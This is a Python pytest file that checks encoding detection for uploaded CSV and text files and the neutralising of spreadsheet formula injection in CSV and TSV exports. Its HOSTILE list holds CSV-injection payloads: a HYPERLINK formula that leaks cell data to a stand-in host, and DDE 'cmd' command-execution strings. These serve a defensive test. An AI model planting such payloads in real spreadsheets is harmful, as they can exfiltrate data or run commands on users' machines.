"""Uploads in other Unicode encodings (a UTF-16 CSV was called "binary") and exports a spreadsheet cannot
turn into formulas (OWASP CSV injection: = + - @ tab CR at the start of a cell)."""

from __future__ import annotations

import codecs
import csv
import io
import zipfile

import pytest

from core.analysis.comparison import compare_pooling, export_csv, export_zip, read_upload, safe_cell
from core.analysis.samples import InputError, decode_upload, text_encoding

CSV = "text,label\nA fine film,pos\nA dull film,neg\n"
TSV = "pos\tA fine film\nneg\tA dull film\n"


@pytest.mark.parametrize(
    ("data", "encoding"),
    [
        (codecs.BOM_UTF16_LE + CSV.encode("utf-16-le"), "utf-16"),  # the issue: Excel's UTF-16 "was binary"
        (codecs.BOM_UTF16_BE + CSV.encode("utf-16-be"), "utf-16"),
        (CSV.encode("utf-16-le"), "utf-16-le"),  # no byte-order mark
        (CSV.encode("utf-16-be"), "utf-16-be"),
        (CSV.encode("utf-32"), "utf-32"),  # Python writes a BOM
        (codecs.BOM_UTF8 + CSV.encode(), "utf-8-sig"),
        (CSV.encode(), "utf-8"),
    ],
)
def test_unicode_csv_uploads_are_read(data, encoding):
    assert text_encoding(data) == encoding
    got = read_upload("films.csv", data)
    assert got.texts == ("A fine film", "A dull film") and got.labels == ("pos", "neg")


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-32"])
def test_unicode_labelled_text_uploads_are_read(codec):
    got = read_upload("films.txt", TSV.encode(codec))
    assert got.labels == ("pos", "neg")


def test_non_ascii_text_in_utf16_survives():
    data = ("text\nCafé crème — très bon\n日本語のテキスト\n").encode("utf-16")
    assert read_upload("x.csv", data).texts == ("Café crème — très bon", "日本語のテキスト")


@pytest.mark.parametrize(
    ("data", "fragment"),
    [
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" * 10, "looks binary (it contains NUL bytes)"),
        (codecs.BOM_UTF16_LE + b"t\x00e\x00\x00\xd8", "nor UTF-16 though it starts like it"),  # lone surrogate
        (codecs.BOM_UTF16_LE + "a\x00b".encode("utf-16-le"), "looks binary"),
        (codecs.BOM_UTF16_LE + "   ".encode("utf-16-le"), "the file is empty"),
        (b"text\ncaf\xe9\n", "not UTF-8 text (bad byte at position 8)"),
    ],
)
def test_what_is_not_text_is_still_refused(data, fragment):
    with pytest.raises(InputError, match=fragment.replace("(", r"\(").replace(")", r"\)")):
        decode_upload(data)


# --- CSV injection ---------------------------------------------------------------------------------------
HOSTILE = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tleading tab",
    "\rleading carriage return",
    "a = b is fine",
    "",
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_safe_cell_follows_owasp(cell):
    out = safe_cell(cell)
    if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
        assert out == "'" + cell
    else:
        assert out == cell


@pytest.fixture(scope="module")
def hostile_comparison(tiny_ckpt):
    texts = [t or "empty" for t in HOSTILE[:6]] + ["plain text", "another plain one"]
    labels = ["=1+1", "+1", "-1", "@x", "ok", "ok", "ok", "=1+1"]
    return compare_pooling(tiny_ckpt, texts, labels, ["mean"])


def _first_chars(rows: list[list[str]], cols: tuple[int, ...]) -> set[str]:
    return {row[c][:1] for row in rows[1:] for c in cols if row[c]}


def test_csv_export_neutralises_formulas(hostile_comparison):
    rows = list(csv.reader(io.StringIO(export_csv(hostile_comparison).decode("utf-8"))))
    assert rows[0][:4] == ["number", "npy_row", "label", "text"]
    assert not _first_chars(rows, (2, 3)) & {"=", "+", "-", "@", "\t", "\r"}
    assert rows[1][2] == "'=1+1" and rows[1][3].startswith("'=HYPERLINK(")
    assert rows[7][3] == "plain text", "ordinary text is untouched"
    assert float(rows[1][4]) == pytest.approx(float(hostile_comparison.embeddings["mean"][0, 0]), rel=1e-6), (
        "our numbers stay numbers (a negative one keeps its minus)"
    )


def test_texts_tsv_in_the_zip_neutralises_formulas(hostile_comparison):
    with zipfile.ZipFile(io.BytesIO(export_zip(hostile_comparison))) as zf:
        rows = list(csv.reader(io.StringIO(zf.read("texts.tsv").decode("utf-8")), delimiter="\t"))
    assert rows[0] == ["number", "npy_row", "label", "text"]
    assert not _first_chars(rows, (2, 3)) & {"=", "+", "-", "@", "\t", "\r"}
    assert rows[3] == ["3", "2", "'-1", "'-2+3+cmd|' /C calc'!A0"]
